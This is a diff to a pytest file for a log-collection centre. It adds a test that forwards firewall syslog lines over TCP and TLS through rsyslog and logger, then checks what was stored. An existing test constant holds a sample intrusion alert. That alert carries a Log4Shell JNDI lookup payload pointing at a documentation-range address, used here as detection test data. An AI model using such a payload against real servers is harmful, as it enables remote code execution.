@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import json
 import socket
 import ssl
@@ -14,7 +15,8 @@ from typing import Any
 import pytest
 
 from tests.servers.centre import RunningCentre, free_port
-from tests.servers.certificates import Authority
+from tests.servers.certificates import Authority, Pair
+from tests.servers.forwarders import Example, Forwarder, Tls, skip_without
 
 ATTACK = (
     '{"timestamp":"2026-03-02T10:15:00.000000+0900","flow_id":7,"in_iface":"eth0","event_type":"alert","src_ip":"203.0.113.66",'
@@ -22,6 +24,11 @@ ATTACK = (
     '"rev":1,"signature":"Apache log4j RCE Attempt (CVE-2021-44228)","category":"Attempted Administrator Privilege Gain","severity":1},'
     '"http":{"hostname":"www.example.go.kr","url":"/?x=${jndi:ldap://203.0.113.66/a}","http_user_agent":"${jndi:ldap://203.0.113.66/a}",'
     '"http_method":"GET","protocol":"HTTP/1.1","status":200,"length":12},"app_proto":"http"}'
+)
+
+FIREWALL = (
+    'date=2026-03-02 time=10:15:00 devname="{via}" devid="FGT60X0000000001" tz="+0900" logid="0000000013" type="traffic" '
+    'subtype="forward" vd="root" srcip=10.1.1.1 srcport=40000 dstip=198.51.100.7 dstport=443 proto=6 action="accept" sessionid={number}'
 )
 
 
@@ -62,7 +69,7 @@ def send_tcp(port: int, payload: bytes, context: ssl.SSLContext | None = None) -
 def installation(tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[tuple[RunningCentre, dict[str, int], ssl.SSLContext]]:
     """A centre with a UDP, a TCP and a TLS listener, on the bus the parameter names."""
     authority = Authority(tmp_path)
-    server, server_key = authority.issue("centre.example")
+    server, server_key = authority.issue("bongsu.city.example")
     client, client_key = authority.issue("fw1.jongno.example")
     ports = {kind: free_port() for kind in ("udp", "tcp", "tls")}
     tls = {"certificate": str(server), "key": str(server_key), "client_ca": str(authority.file), "require_client_certificate": True}
@@ -116,6 +123,38 @@ def test_every_line_over_every_transport_is_found_again(
     stored = centre.stored()
     assert stored.all == Counter([*lines, ATTACK])
     assert len(stored.events) > len(stored.quarantine) * 0.1
+
+
+@pytest.mark.parametrize("installation", ["embedded"], indirect=True)
+async def test_rsyslog_and_logger_deliver_into_the_store(
+    installation: tuple[RunningCentre, dict[str, int], ssl.SSLContext], tmp_path: Path
+) -> None:
+    skip_without("rsyslog")
+    skip_without("logger")
+    centre, ports, _ = installation
+    await asyncio.to_thread(centre.start)
+    tls = Tls(tmp_path / "ca.pem", Pair(tmp_path / "fw1.jongno.example.pem", tmp_path / "fw1.jongno.example.key"))
+    lines: list[str] = []
+    for name, port, credentials in (("plain", ports["tcp"], None), ("tls", ports["tls"], tls)):
+        part = [FIREWALL.format(via=name, number=number) for number in range(500)]
+        async with Forwarder(Example("rsyslog", "127.0.0.1", port, free_port(), tmp_path / name, credentials)) as forwarder:
+            await forwarder.send(newline_framed(part))
+            lines += part
+            await asyncio.to_thread(centre.wait_until_handled, len(lines))
+    file = tmp_path / "by-logger"
+    file.write_text("".join(FIREWALL.format(via="logger", number=number) + "\n" for number in range(50)), encoding="utf-8")
+    sent = await asyncio.create_subprocess_exec(
+        "logger", "-T", "--octet-count", "-n", "127.0.0.1", "-P", str(ports["tcp"]), "-t", "fw", "-f", str(file)
+    )
+    assert await sent.wait() == 0
+    await asyncio.to_thread(centre.wait_until_handled, len(lines) + 50)
+
+    assert centre.stop() == 0
+    stored = centre.stored()
+    by_logger = Counter({line: count for line, count in stored.events.items() if 'devname="logger"' in line})
+    assert stored.events - by_logger == Counter(lines)
+    assert sorted(line[line.index("date=") :] for line in by_logger.elements()) == sorted(file.read_text(encoding="utf-8").splitlines())
+    assert not stored.quarantine
 
 
 def wait_for_incident(client: Any, text: str, seconds: float = 30.0) -> dict[str, Any]:
